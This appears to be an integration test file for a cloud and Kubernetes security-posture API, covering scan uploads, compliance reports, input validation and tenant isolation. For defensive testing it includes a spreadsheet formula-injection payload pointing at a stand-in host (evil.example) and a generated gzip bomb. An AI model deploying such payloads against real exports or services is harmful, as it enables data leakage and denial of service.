import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { analyseCollected, type CollectedScan } from '../../src/posture/collectors/analyse.js';
import { collectKubernetes } from '../../src/posture/collectors/kubernetes/index.js';
import { collectedResource } from '../../src/posture/collectors/resource.js';
import type { CollectResult } from '../../src/posture/collectors/types.js';
import type { Resource } from '../../src/posture/model.js';
import { renderPostureJson } from '../../src/posture/output/json.js';
import { BUILTIN_RULES } from '../../src/posture/rules/registry.js';
import type { FrameworkScore } from '../../src/posture/scores.js';
import { scannedResources } from '../../src/store/repos/postureTargetsWorkloads.js';
import { addUser, bearer, login, seedTenant, testApp, type SeededUser, type TestApp } from '../helpers/app.js';

/**
 * The posture registry over the API (issue 7, sections 3 and 6), on PGlite or on PostgreSQL
 * with DATABASE_URL: clusters collected from `kubectl get -A -o json` dumps by the real
 * collector and a cloud account built from collected resources, analysed with the built-in
 * rules as the CLI does, uploaded to POST /scans; the server's recomputed scores must equal
 * the CLI's. Then the lists, the detail with the trend over two scans, workloads and their
 * findings, compliance per target and across targets (JSON and CSV with the formula guard),
 * findings through the `target` filter, bad and hostile uploads, permissions, audit, and a
 * second tenant that sees nothing.
 */

let t: TestApp;
let admin: SeededUser;
let token: string;
let ingestKey: string;
let dir: string;

const UPLOAD_LIMIT = 4_000_000;
const RULE_IDS = BUILTIN_RULES.map((r) => r.id);

const get = (url: string, tok = token, headers: Record<string, string> = {}) => t.app.inject({ method: 'GET', url, headers: { ...bearer(tok), ...headers } });
const upload = (body: unknown, auth = ingestKey, headers: Record<string, string> = {}) =>
  t.app.inject({
    method: 'POST',
    url: '/api/v1/scans',
    headers: { ...bearer(auth), 'content-type': 'application/json', ...headers },
    payload: typeof body === 'string' || Buffer.isBuffer(body) ? body : JSON.stringify(body),
  });

const container = (name: string, image: string, privileged = false) => ({ name, image, ...(privileged ? { securityContext: { privileged: true } } : {}) });
const podSpec = (containers: object[], init: object[] = []) => ({ ...(init.length ? { initContainers: init } : {}), containers });
const meta = (name: string, namespace?: string, extra: object = {}) => ({ name, ...(namespace ? { namespace } : {}), uid: `uid-${namespace ?? ''}-${name}`, ...extra });
const owned = (kind: string, name: string, namespace: string) => ({ ownerReferences: [{ apiVersion: kind === 'ReplicaSet' ? 'apps/v1' : 'apps/v1', kind, name, uid: `uid-${namespace}-${name}` }] });

/** A cluster as `kubectl get -A -o json` prints it: the first scan has a privileged web Deployment and a bare pod. */
function clusterDump(second: boolean): object {
  const items: object[] = [
    { apiVersion: 'v1', kind: 'Node', metadata: meta('node-1', undefined, { labels: { 'eks.amazonaws.com/nodegroup': 'ng' } }), spec: { providerID: 'aws:///eu-west-1a/i-0123' }, status: { nodeInfo: { kubeletVersion: 'v1.31.2-eks-1' } } },
    { apiVersion: 'v1', kind: 'Node', metadata: meta('node-2'), spec: { providerID: 'aws:///eu-west-1b/i-0456' }, status: { nodeInfo: { kubeletVersion: 'v1.31.2-eks-1' } } },
    { apiVersion: 'v1', kind: 'Namespace', metadata: meta('prod') },
    { apiVersion: 'apps/v1', kind: 'Deployment', metadata: meta('web', 'prod'), spec: { template: { metadata: { labels: { app: 'web' } }, spec: podSpec([container('web', 'nginx:1.25', !second), container('proxy', 'envoyproxy/envoy:v1.30')], [container('init', 'busybox:1.36')]) } } },
    { apiVersion: 'apps/v1', kind: 'ReplicaSet', metadata: meta('web-5d9', 'prod', owned('Deployment', 'web', 'prod')), spec: { template: { spec: podSpec([container('web', 'nginx:1.25', !second)]) } } },
    { apiVersion: 'v1', kind: 'Pod', metadata: meta('web-5d9-abcde', 'prod', owned('ReplicaSet', 'web-5d9', 'prod')), spec: podSpec([container('web', 'nginx:1.25', !second)]) },
    { apiVersion: 'v1', kind: 'Service', metadata: meta('web', 'prod'), spec: { ports: [{ port: 80 }] } },
  ];
  if (!second) items.push({ apiVersion: 'v1', kind: 'Pod', metadata: meta('a-secret-pod', 'default'), spec: podSpec([container('debug', 'alpine:3.20', true)]) });
  else items.push({ apiVersion: 'batch/v1', kind: 'CronJob', metadata: meta('backup', 'ops'), spec: { schedule: '0 1 * * *', jobTemplate: { spec: { template: { spec: podSpec([container('restic', 'restic/restic:0.16')]) } } } } });
  return { apiVersion: 'v1', kind: 'List', items };
}

interface Upload {
  readonly scan: CollectedScan;
  readonly resources: readonly Resource[];
  readonly body: Record<string, unknown>;
}

/** What `vigil posture scan … --upload` sends: the JSON report, the collected resources (minimal), the rules that ran. */
function uploadOf(result: CollectResult): Upload {
  const scan = analyseCollected(result, BUILTIN_RULES);
  const body = {
    target: result.target,
    report: JSON.parse(renderPostureJson(scan.report)) as unknown,
    resources: scannedResources(result.resources),
    rules: RULE_IDS,
    stats: result.stats,
    rulesVersion: 'vigil test',
  };
  return { scan, resources: result.resources, body };
}

async function collectDump(name: string, second: boolean): Promise<Upload> {
  const file = join(dir, `${name}-${second ? 2 : 1}.json`);
  await writeFile(file, JSON.stringify(clusterDump(second)));
  const result = await collectKubernetes({ snapshot: file, name });
  return uploadOf(result);
}

const ACCOUNT = '111122223333';
function accountUpload(extraFindings: object[] = []): Upload {
  const bucket = (name: string, pab: unknown) =>
    collectedResource({
      kind: 'aws:AWS::S3::Bucket',
      input: 'aws',
      provider: 'aws',
      id: `arn:aws:s3:::${name}`,
      name,
      account: ACCOUNT,
      region: 'eu-west-1',
      attrs: { Name: name, PublicAccessBlock: pab, Acl: { Grants: [{ Grantee: { Type: 'Group', URI: 'http://acs.amazonaws.com/groups/global/AllUsers' }, Permission: 'READ' }] } },
    });
  const result: CollectResult = {
    target: { provider: 'aws', id: ACCOUNT, name: 'prod-account', regions: ['eu-west-1', 'us-east-1'] },
    resources: [bucket('open-logs', null), bucket('closed', { BlockPublicAcls: true, IgnorePublicAcls: true, BlockPublicPolicy: true, RestrictPublicBuckets: true })],
    gaps: [{ provider: 'aws', target: ACCOUNT, service: 'iam', operation: 'GenerateCredentialReport', reason: 'access-denied', message: 'AccessDenied: not authorized', kinds: ['aws:AWS::IAM::User'] }],
    stats: { ms: 1234, calls: 10, retries: 1 },
  };
  const u = uploadOf(result);
  const report = u.body['report'] as { findings: object[] };
  report.findings.push(...extraFindings);
  return u;
}

const applicable = (f: readonly FrameworkScore[]) => f.filter((x) => x.compliance !== null);

/** The fields of a POST /scans answer these tests read. */
interface ScanRes {
  id: string;
  targetCreated: boolean;
  target: { id: string; provider: string; externalId: string; name: string; regions: string[]; version: string | null; platform: string | null; nodeCount: number | null; workloads: number };
  resources: number;
  findings: number;
  risk: number;
  compliance: FrameworkScore[];
  unscoredRules: string[];
  durationMs: number | null;
  rulesVersion: string | null;
  errorCount: number;
  errors: { path: string; reason: string }[];
}

before(async () => {
  t = await testApp({ uploadLimit: UPLOAD_LIMIT, logLevel: 'error' });
  admin = await seedTenant(t.ctx, 'admin');
  token = await login(t.app, admin);
  const k = await t.app.inject({ method: 'POST', url: '/api/v1/api-keys', headers: bearer(token), payload: { name: 'collector', role: 'ingest' } });
  ingestKey = k.json().key;
  dir = await mkdtemp(join(tmpdir(), 'vigil-registry-'));
});
after(async () => {
  await t.close();
  await rm(dir, { recursive: true, force: true });
});

describe('a cluster scanned twice', () => {
  let first: Upload;
  let second: Upload;
  let r1: ScanRes;
  let r2: ScanRes;
  let clusterId: string;

  before(async () => {
    first = await collectDump('prod-eu', false);
    second = await collectDump('prod-eu', true);
    const a = await upload(first.body);
    assert.equal(a.statusCode, 201, a.body);
    r1 = a.json();
    clusterId = r1.target.id;
    const b = await upload(gzipSync(JSON.stringify(second.body)), ingestKey, { 'content-type': 'application/gzip' });
    assert.equal(b.statusCode, 201, b.body);
    r2 = b.json();
  });

  test('the upload registers the cluster with its facts; the server recomputes the scores the CLI computed', () => {
    assert.equal(r1.targetCreated, true);
    assert.equal(r2.targetCreated, false);
    assert.equal(r2.target.id, clusterId, 'same provider + id: same cluster');
    assert.equal(r1.target.provider, 'kubernetes');
    assert.equal(r1.target.externalId, 'prod-eu');
    assert.equal(r1.target.version, first.scan.facts.version ?? null);
    assert.equal(r1.target.platform, first.scan.facts.platform ?? null);
    assert.equal(r1.target.nodeCount, first.scan.facts.nodeCount ?? null);
    for (const [res, u] of [[r1, first], [r2, second]] as const) {
      assert.equal(res.resources, u.resources.length);
      assert.equal(res.findings, u.scan.report.findings.length);
      assert.equal(res.risk, u.scan.scores.risk);
      assert.deepEqual(res.compliance, applicable(u.scan.scores.frameworks));
      assert.deepEqual(res.unscoredRules, []);
      assert.equal(res.durationMs, Math.round(u.scan.stats.ms));
      assert.equal(res.rulesVersion, 'vigil test');
    }
    assert.ok(first.scan.report.findings.some((f) => f.status === 'fail' && f.resource.id === 'Deployment/prod/web'), 'the privileged Deployment fails a rule');
    assert.ok(r1.risk > r2.risk, `fixing the privileged containers lowers the risk (${r1.risk} > ${r2.risk})`);
    assert.ok(r1.compliance.length > 0);
  });

  test('GET /clusters lists it with its latest scan; filters and paging', async () => {
    const list = (await get('/api/v1/clusters')).json();
    const c = list.items.find((x: { id: string }) => x.id === clusterId);
    assert.ok(c);
    assert.equal(c.latestScan.id, r2.id);
    assert.equal(c.workloads, 2, 'the Deployment and the CronJob; the bare pod went away, the ReplicaSet and its Pod are children');
    assert.equal((await get('/api/v1/clusters?q=PROD-')).json().items.length, 1);
    assert.equal((await get('/api/v1/clusters?q=nope')).json().items.length, 0);
    if (r1.target.platform) assert.equal((await get(`/api/v1/clusters?platform=${r1.target.platform}`)).json().items.length, 1);
    assert.equal((await get('/api/v1/clusters?platform=openshift')).json().items.length, 0);
    assert.equal((await get('/api/v1/clusters?sort=-updatedAt&limit=1')).statusCode, 200);
    assert.equal((await get('/api/v1/clusters?sort=bogus')).statusCode, 400);
  });

  test('GET /clusters/{id}: facts, the latest scan and the trend over both scans, oldest first', async () => {
    const res = await get(`/api/v1/clusters/${clusterId}`);
    assert.equal(res.statusCode, 200, res.body);
    const c = res.json();
    assert.equal(c.latestScan.id, r2.id);
    assert.deepEqual(c.trend.map((p: { scanId: string }) => p.scanId), [r1.id, r2.id]);
    assert.deepEqual(c.trend.map((p: { risk: number }) => p.risk), [first.scan.scores.risk, second.scan.scores.risk]);
    for (const [i, u] of [first, second].entries()) {
      assert.deepEqual(c.trend[i].compliance, Object.fromEntries(applicable(u.scan.scores.frameworks).map((f) => [f.framework, f.compliance])));
      assert.equal(c.trend[i].failed, u.scan.report.findings.filter((f) => f.status === 'fail').length);
    }
    assert.deepEqual((await get(`/api/v1/clusters/${clusterId}?trend=1`)).json().trend.map((p: { scanId: string }) => p.scanId), [r2.id]);
    assert.equal((await get(`/api/v1/clusters/${clusterId}?trend=0`)).statusCode, 400);
    assert.equal((await get('/api/v1/clusters/00000000-0000-4000-8000-000000000000')).statusCode, 404);
    assert.equal((await get(`/api/v1/accounts/${clusterId}`)).statusCode, 404, 'a cluster is not an account');
  });

  test('workloads: replaced per scan, same id for the same object, images and failed findings', async () => {
    const items = (await get(`/api/v1/clusters/${clusterId}/workloads`)).json().items;
    assert.deepEqual(items.map((w: { resourceId: string }) => w.resourceId), ['CronJob/ops/backup', 'Deployment/prod/web'], 'ordered by namespace');
    const web = items.find((w: { kind: string }) => w.kind === 'Deployment');
    assert.deepEqual(web.images, ['busybox:1.36', 'nginx:1.25', 'envoyproxy/envoy:v1.30']);
    assert.equal(web.scanId, r2.id);
    assert.equal(web.clusterId, clusterId);
    assert.equal(web.namespace, 'prod');
    const failedNow = second.scan.report.findings.filter((f) => f.status === 'fail' && f.resource.id === 'Deployment/prod/web');
    assert.equal(Object.values(web.failed as Record<string, number>).reduce((a, b) => a + b, 0), failedNow.length);
    assert.deepEqual((await get(`/api/v1/clusters/${clusterId}/workloads?kind=CronJob`)).json().items.map((w: { name: string }) => w.name), ['backup']);
    assert.deepEqual((await get(`/api/v1/clusters/${clusterId}/workloads?namespace=prod`)).json().items.map((w: { name: string }) => w.name), ['web']);
    assert.deepEqual((await get(`/api/v1/clusters/${clusterId}/workloads?image=RESTIC`)).json().items.map((w: { name: string }) => w.name), ['backup']);
    assert.deepEqual((await get(`/api/v1/clusters/${clusterId}/workloads?q=we`)).json().items.map((w: { name: string }) => w.name), ['web']);
    const p1 = (await get(`/api/v1/clusters/${clusterId}/workloads?limit=1&sort=name`)).json();
    assert.equal(p1.items[0].name, 'backup');
    const p2 = (await get(`/api/v1/clusters/${clusterId}/workloads?limit=1&sort=name&cursor=${p1.nextCursor}`)).json();
    assert.deepEqual([p2.items[0].name, p2.nextCursor], ['web', null]);
    assert.equal((await get('/api/v1/clusters/00000000-0000-4000-8000-000000000000/workloads')).statusCode, 404);
  });

  test('GET /workloads/{id}/posture: the findings of that resource in the latest scan', async () => {
    const web = (await get(`/api/v1/clusters/${clusterId}/workloads?kind=Deployment`)).json().items[0];
    const res = await get(`/api/v1/workloads/${web.id}/posture`);
    assert.equal(res.statusCode, 200, res.body);
    const { workload, findings } = res.json();
    assert.equal(workload.id, web.id);
    const want = second.scan.report.findings.filter((f) => f.resource.id === 'Deployment/prod/web');
    assert.deepEqual(findings.map((f: { ruleId: string; status: string }) => `${f.ruleId}/${f.status}`).sort(), want.map((f) => `${f.ruleId}/${f.status}`).sort());
    assert.ok(findings.every((f: { scanId: string; targetId: string; projectId: null; resource: { id: string } }) => f.scanId === r2.id && f.targetId === clusterId && f.projectId === null && f.resource.id === 'Deployment/prod/web'));
    assert.equal((await get('/api/v1/workloads/00000000-0000-4000-8000-000000000000/posture')).statusCode, 404);
  });

  test('GET /clusters/{id}/compliance: per framework, counts agree with the controls listed; filters; an older scan', async () => {
    const res = await get(`/api/v1/clusters/${clusterId}/compliance`);
    assert.equal(res.statusCode, 200, res.body);
    const c = res.json();
    assert.equal(c.scanId, r2.id);
    assert.deepEqual(c.frameworks.map((f: { framework: string }) => f.framework), applicable(second.scan.scores.frameworks).map((f) => f.framework));
    const ruleStatus = new Map(second.scan.scores.rules.map((r) => [r.ruleId, r.status]));
    for (const f of c.frameworks) {
      const count = (s: string) => f.items.filter((i: { status: string }) => i.status === s).length;
      assert.deepEqual([count('pass'), count('fail'), count('not-assessed')], [f.controls.pass, f.controls.fail, f.controls.notAssessed], f.framework);
      const local = second.scan.scores.controls.filter((x) => x.framework === f.framework && x.status !== 'not-applicable');
      assert.deepEqual(f.items.map((i: { control: string; status: string }) => `${i.control}=${i.status}`), local.map((x) => `${x.control}=${x.status}`));
      for (const i of f.items) for (const r of i.rules) assert.equal(r.status, ruleStatus.get(r.ruleId), `${i.control} ${r.ruleId}`);
    }
    const fw = c.frameworks[0].framework as string;
    const only = (await get(`/api/v1/clusters/${clusterId}/compliance?framework=${fw}&status=pass`)).json();
    assert.deepEqual(only.frameworks.map((f: { framework: string }) => f.framework), [fw]);
    assert.ok(only.frameworks[0].items.every((i: { status: string }) => i.status === 'pass'));
    assert.equal(only.frameworks[0].controls.fail, c.frameworks[0].controls.fail, 'the counts stay whole');
    const old = (await get(`/api/v1/clusters/${clusterId}/compliance?scan=${r1.id}`)).json();
    assert.equal(old.scanId, r1.id);
    assert.deepEqual(old.frameworks.map((f: { compliance: number }) => f.compliance), applicable(first.scan.scores.frameworks).map((f) => f.compliance));
    assert.equal((await get(`/api/v1/clusters/${clusterId}/compliance?scan=00000000-0000-4000-8000-000000000000`)).statusCode, 404);
    assert.equal((await get(`/api/v1/clusters/${clusterId}/compliance?framework=nope`)).statusCode, 400);
    assert.equal((await get(`/api/v1/clusters/${clusterId}/compliance?status=open`)).statusCode, 400);
  });

  test('findings of target scans through GET /posture/findings?target=; project lists stay project-only', async () => {
    const all = async (q: string) => {
      const out: { id: string; scanId: string; targetId: string | null; targetName: string | null; projectId: string | null }[] = [];
      let cursor: string | null = null;
      do {
        const res = await get(`/api/v1/posture/findings?${q}&limit=500${cursor ? `&cursor=${cursor}` : ''}`);
        assert.equal(res.statusCode, 200, res.body);
        out.push(...res.json().items);
        cursor = res.json().nextCursor;
      } while (cursor);
      return out;
    };
    const latest = await all(`target=${clusterId}`);
    assert.equal(latest.length, second.scan.report.findings.length);
    assert.ok(latest.every((f) => f.scanId === r2.id && f.targetId === clusterId && f.targetName === 'prod-eu' && f.projectId === null));
    assert.equal((await all(`target=${clusterId}&scan=${r1.id}`)).length, first.scan.report.findings.length);
    const summary = (await get(`/api/v1/posture/summary?target=${clusterId}`)).json();
    assert.equal(summary.total, second.scan.report.findings.length);
    assert.equal(summary.scans, 1);
    assert.deepEqual(await all('status=fail'), [], 'without a target filter the list reads projects only, as before');
  });

  test('a third scan keeps each workload id and first-seen time', async () => {
    const before = (await get(`/api/v1/clusters/${clusterId}/workloads`)).json().items as { id: string; resourceId: string; firstSeen: string; scanId: string }[];
    const res = await upload(second.body);
    assert.equal(res.statusCode, 201, res.body);
    const now = (await get(`/api/v1/clusters/${clusterId}/workloads`)).json().items as typeof before;
    assert.deepEqual(now.map((w) => [w.id, w.resourceId, w.firstSeen]), before.map((w) => [w.id, w.resourceId, w.firstSeen]));
    assert.ok(now.every((w) => w.scanId === res.json().id));
  });
});

describe('cloud accounts', () => {
  let res: ScanRes;
  let u: Upload;

  before(async () => {
    u = accountUpload([
      {
        ruleId: 'VGL-CUSTOM-1',
        severity: 'low',
        title: 'A custom rule',
        status: 'fail',
        resource: { kind: 'aws:AWS::S3::Bucket', id: 'arn:aws:s3:::open-logs', name: 'open-logs', provider: 'aws', account: ACCOUNT, region: 'eu-west-1' },
        location: { file: 'arn:aws:s3:::open-logs', line: 0 },
      },
    ]);
    const r = await upload(u.body);
    assert.equal(r.statusCode, 201, r.body);
    res = r.json();
  });

  test('registered with regions; gaps are the scan errors; unknown rules stored but unscored', async () => {
    assert.equal(res.target.provider, 'aws');
    assert.deepEqual(res.target.regions, ['eu-west-1', 'us-east-1']);
    assert.equal(res.target.workloads, 0);
    assert.deepEqual(res.unscoredRules, ['VGL-CUSTOM-1']);
    assert.equal(res.findings, u.scan.report.findings.length + 1);
    assert.equal(res.risk, u.scan.scores.risk);
    assert.deepEqual(res.compliance, applicable(u.scan.scores.frameworks));
    assert.equal(res.errorCount, 1);
    assert.deepEqual(res.errors, [{ path: `aws://${ACCOUNT}/global/iam:GenerateCredentialReport`, reason: 'access-denied: AccessDenied: not authorized' }]);
    const list = (await get('/api/v1/accounts')).json().items;
    assert.deepEqual(list.map((a: { externalId: string }) => a.externalId), [ACCOUNT]);
    assert.equal((await get('/api/v1/accounts?provider=gcp,azure')).json().items.length, 0);
    assert.equal((await get('/api/v1/accounts?provider=aws')).json().items.length, 1);
    assert.equal((await get('/api/v1/accounts?provider=kubernetes')).statusCode, 400);
    assert.ok(!(await get('/api/v1/clusters')).json().items.some((c: { id: string }) => c.id === res.target.id), 'accounts are not clusters');
    const one = (await get(`/api/v1/accounts/${res.target.id}`)).json();
    assert.equal(one.latestScan.id, res.id);
    assert.equal(one.trend.length, 1);
    assert.equal((await get(`/api/v1/clusters/${res.target.id}`)).statusCode, 404);
    assert.equal((await get(`/api/v1/accounts/${res.target.id}/compliance`)).statusCode, 200);
    const custom = (await get(`/api/v1/posture/findings?target=${res.target.id}&rule=VGL-CUSTOM-1`)).json().items;
    assert.equal(custom.length, 1);
  });

  test('a re-scan keeps the facts it did not learn', async () => {
    const again = accountUpload();
    (again.body['target'] as Record<string, unknown>)['regions'] = [];
    (again.body['target'] as Record<string, unknown>)['name'] = 'renamed';
    const r = await upload(again.body);
    assert.equal(r.statusCode, 201, r.body);
    assert.equal(r.json().target.name, 'renamed');
    assert.deepEqual(r.json().target.regions, ['eu-west-1', 'us-east-1']);
  });
});

describe('compliance report across targets', () => {
  const FW = 'pss-baseline';
  let evilId: string;

  before(async () => {
    const evil = await collectDump('evil', false);
    (evil.body['target'] as Record<string, unknown>)['name'] = '=HYPERLINK("http://evil.example/"&A1)';
    const r = await upload(evil.body);
    assert.equal(r.statusCode, 201, r.body);
    evilId = r.json().target.id;
  });

  test('JSON: each target at its latest scan, pooled compliance, controls aggregated', async () => {
    const res = await get(`/api/v1/compliance/${FW}/report`);
    assert.equal(res.statusCode, 200, res.body);
    const rep = res.json();
    assert.deepEqual(rep.framework, { id: FW, name: 'Kubernetes Pod Security Standards: Baseline' });
    const clusters = (await get('/api/v1/clusters')).json().items as { id: string; name: string; latestScan: { id: string; compliance: FrameworkScore[] } }[];
    const expected = clusters.filter((c) => c.latestScan.compliance.some((f) => f.framework === FW));
    assert.equal(rep.targets.length, expected.length);
    assert.ok(rep.targets.length >= 2);
    for (const tg of rep.targets) {
      const c = expected.find((x) => x.id === tg.id)!;
      assert.equal(tg.scanId, c.latestScan.id);
      assert.equal(tg.compliance, c.latestScan.compliance.find((f) => f.framework === FW)!.compliance);
    }
    const pooled = rep.targets.reduce((n: number[], x: { controls: { pass: number; fail: number; notAssessed: number } }) => [n[0]! + x.controls.pass, n[1]! + x.controls.pass + x.controls.fail + x.controls.notAssessed], [0, 0]);
    assert.equal(rep.summary.compliance, Math.round((1000 * pooled[0]) / pooled[1]) / 10);
    for (const c of rep.controls) {
      assert.equal(c.targets.pass + c.targets.fail + c.targets.notAssessed <= rep.targets.length, true);
      if (c.targets.fail > 0) assert.equal(c.status, 'fail');
    }
    assert.equal(rep.truncated, false);
    assert.equal((await get(`/api/v1/compliance/${FW}/report?provider=aws`)).json().targets.length, 0);
    assert.deepEqual((await get(`/api/v1/compliance/${FW}/report?target=${evilId}`)).json().targets.map((x: { id: string }) => x.id), [evilId]);
    assert.equal((await get('/api/v1/compliance/nope/report')).statusCode, 404);
    assert.equal((await get(`/api/v1/compliance/${FW}/report?format=xml`)).statusCode, 400);
  });

  test('CSV by ?format=csv or Accept: text/csv; every cell guarded against formula injection', async () => {
    const json = (await get(`/api/v1/compliance/${FW}/report`)).json();
    for (const [url, headers] of [
      [`/api/v1/compliance/${FW}/report?format=csv`, {}],
      [`/api/v1/compliance/${FW}/report`, { accept: 'text/csv' }],
    ] as const) {
      const res = await get(url, token, headers);
      assert.equal(res.statusCode, 200, res.body);
      assert.match(String(res.headers['content-type']), /^text\/csv/);
      assert.match(String(res.headers['content-disposition']), /attachment; filename="pss-baseline-compliance.csv"/);
      const lines = res.body.split('\r\n').filter(Boolean);
      assert.equal(lines[0], 'framework,provider,target_id,external_id,target_name,scan_id,scanned_at,target_compliance,target_risk,control,status,rules');
      const rows = json.targets.reduce((n: number, x: { controls: { pass: number; fail: number; notAssessed: number } }) => n + x.controls.pass + x.controls.fail + x.controls.notAssessed, 0);
      assert.equal(lines.length - 1, rows, 'one line per target and assessed control');
      const evil = lines.filter((l: string) => l.includes(evilId));
      assert.ok(evil.length > 0);
      assert.ok(evil.every((l: string) => l.includes(`,"'=HYPERLINK(""http://evil.example/""&A1)",`)), evil[0]);
      assert.ok(!lines.some((l: string) => /(^|,)[=+\-@]/.test(l)), 'no cell starts with a formula character');
    }
    assert.equal((await get(`/api/v1/compliance/${FW}/report`, token, { accept: 'application/json' })).headers['content-type'], 'application/json; charset=utf-8');
  });
});

describe('bad and hostile uploads are 400 problem+json naming the field; nothing stored', () => {
  const bad = async (body: unknown, pointer: string, type = 'urn:vigil:problem:validation', status = 400) => {
    const res = await upload(body);
    assert.equal(res.statusCode, status, `${JSON.stringify(body).slice(0, 100)}: ${res.body}`);
    assert.equal(res.headers['content-type'], 'application/problem+json; charset=utf-8');
    assert.equal(res.json().type, type);
    assert.ok(res.json().errors.some((e: { pointer: string }) => e.pointer === pointer), `${pointer} in ${res.body}`);
  };
  const valid = () => ({
    target: { provider: 'gcp', id: 'bad-project', name: 'bad' } as Record<string, unknown>,
    report: { findings: [], errors: [] },
    resources: [],
  });
  const withTarget = (over: Record<string, unknown>) => ({ ...valid(), target: { ...valid().target, ...over } });

  test('fields', async () => {
    await bad('{"target": ', '/body', 'urn:vigil:problem:malformed-json');
    await bad({}, '/body/target');
    await bad({ ...valid(), resources: undefined }, '/body/resources');
    await bad(withTarget({ provider: 'ibm' }), '/body/target/provider');
    await bad(withTarget({ id: '' }), '/body/target/id');
    await bad(withTarget({ name: 'x'.repeat(301) }), '/body/target/name');
    await bad(withTarget({ regions: Array.from({ length: 1001 }, (_, i) => `r${i}`) }), '/body/target/regions');
    await bad(withTarget({ nodeCount: -1 }), '/body/target/nodeCount');
    await bad({ ...valid(), resources: [{ kind: 'Deployment', id: 'x', name: 'x' }] }, '/body/resources/0/kind');
    await bad({ ...valid(), resources: [{ kind: 'k8s:Pod', id: 'Pod/a/b', name: 'b', images: 'nginx' }] }, '/body/resources/0/images');
    await bad({ ...valid(), report: { findings: [{ ruleId: 'x', severity: 'urgent' }] } }, '/body/report/findings/0/severity');
    await bad({ ...valid(), report: {} }, '/body/report/findings');
    await bad({ ...valid(), rules: 'all' }, '/body/rules');
    await bad({ ...valid(), stats: { ms: -1 } }, '/body/stats/ms');
    await bad({ ...valid(), extra: true }, '/body');
    await bad(gzipSync('{"x":'), '/body', 'urn:vigil:problem:malformed-json');
    await bad(Buffer.from([0x1f, 0x8b, 0, 1, 2, 3]), '/body', 'urn:vigil:problem:bad-request');
    await bad('', '/body', 'urn:vigil:problem:bad-request');
    assert.equal((await get('/api/v1/accounts?provider=gcp')).json().items.length, 0, 'nothing stored');
  });

  test('size limits: the body, and a gzip bomb', async () => {
    await bad(JSON.stringify({ ...valid(), pad: 'x'.repeat(UPLOAD_LIMIT) }), '/body', 'urn:vigil:problem:payload-too-large', 413);
    // 300 MiB of spaces inflate past the 256 MiB limit from a body well under the upload limit.
    const chunks: Buffer[] = [];
    const { createGzip } = await import('node:zlib');
    const gz = createGzip({ level: 9 });
    const done = (async () => {
      for await (const c of gz as AsyncIterable<Buffer>) chunks.push(c);
    })();
    const mib = Buffer.alloc(1024 * 1024, 0x20);
    for (let i = 0; i < 300; i++) if (!gz.write(mib)) await new Promise((r) => gz.once('drain', r));
    gz.end();
    await done;
    await bad(Buffer.concat(chunks), '/body', 'urn:vigil:problem:payload-too-large', 413);
  });

  test('unusual text is stored safely', async () => {
    const body = withTarget({ id: 'weird\u0000id', name: 'lone \ud800 surrogate' });
    const res = await upload(body);
    assert.equal(res.statusCode, 201, res.body);
    assert.equal(res.json().target.externalId, 'weird\uFFFDid');
    assert.equal(res.json().target.name, 'lone \uFFFD surrogate');
  });
});

describe('access', () => {
  test('permissions: ingest may upload only, viewers may read only', async () => {
    const viewer = await login(t.app, await addUser(t.ctx, admin.tenantId, 'viewer'));
    assert.equal((await upload(accountUpload().body, viewer)).statusCode, 403);
    assert.equal((await get('/api/v1/clusters', viewer)).statusCode, 200);
    assert.equal((await get('/api/v1/accounts', ingestKey)).statusCode, 403);
    assert.equal((await get('/api/v1/compliance/pss-baseline/report', ingestKey)).statusCode, 403);
    assert.equal((await t.app.inject({ url: '/api/v1/clusters' })).statusCode, 401);
    assert.equal((await t.app.inject({ method: 'POST', url: '/api/v1/scans', payload: {} })).statusCode, 401);
  });

  test('the upload is audited with what was stored', async () => {
    const res = await upload(accountUpload().body);
    assert.equal(res.statusCode, 201);
    const audit = (await get('/api/v1/audit?action=scans.create')).json().items;
    const rec = audit.find((r: { targetId: string }) => r.targetId === res.json().id);
    assert.ok(rec, JSON.stringify(audit).slice(0, 500));
    assert.equal(rec.outcome, 'success');
    assert.equal(rec.details.provider, 'aws');
    assert.equal(rec.details.target, ACCOUNT);
    assert.equal(rec.details.findings, res.json().findings);
  });

  test("a second tenant sees none of this tenant's clusters, accounts, workloads, findings or reports", async () => {
    const other = await seedTenant(t.ctx, 'admin');
    const tok = await login(t.app, other);
    const clusters = (await get('/api/v1/clusters')).json().items as { id: string; latestScan: { id: string } }[];
    const accounts = (await get('/api/v1/accounts')).json().items as { id: string }[];
    assert.ok(clusters.length > 0 && accounts.length > 0);
    assert.deepEqual((await get('/api/v1/clusters', tok)).json().items, []);
    assert.deepEqual((await get('/api/v1/accounts', tok)).json().items, []);
    for (const c of clusters) {
      assert.equal((await get(`/api/v1/clusters/${c.id}`, tok)).statusCode, 404);
      assert.equal((await get(`/api/v1/clusters/${c.id}/workloads`, tok)).statusCode, 404);
      assert.equal((await get(`/api/v1/clusters/${c.id}/compliance`, tok)).statusCode, 404);
      assert.deepEqual((await get(`/api/v1/posture/findings?target=${c.id}`, tok)).json().items, []);
      assert.deepEqual((await get(`/api/v1/posture/findings?scan=${c.latestScan.id}`, tok)).json().items, []);
      for (const w of (await get(`/api/v1/clusters/${c.id}/workloads`)).json().items) assert.equal((await get(`/api/v1/workloads/${w.id}/posture`, tok)).statusCode, 404);
    }
    for (const a of accounts) assert.equal((await get(`/api/v1/accounts/${a.id}/compliance`, tok)).statusCode, 404);
    const rep = (await get('/api/v1/compliance/pss-baseline/report', tok)).json();
    assert.deepEqual([rep.targets, rep.controls, rep.summary.targets], [[], [], 0]);
    const csv = await get('/api/v1/compliance/pss-baseline/report?format=csv', tok);
    assert.equal(csv.body.split('\r\n').filter(Boolean).length, 1, 'the header only');
    // The same cluster name in another tenant is another cluster.
    const mine = await upload(accountUpload().body);
    const key = (await t.app.inject({ method: 'POST', url: '/api/v1/api-keys', headers: bearer(tok), payload: { name: 'c', role: 'ingest' } })).json().key;
    const theirs = await upload(accountUpload().body, key);
    assert.equal(theirs.statusCode, 201, theirs.body);
    assert.equal(theirs.json().targetCreated, true);
    assert.notEqual(theirs.json().target.id, mine.json().target.id);
  });
});
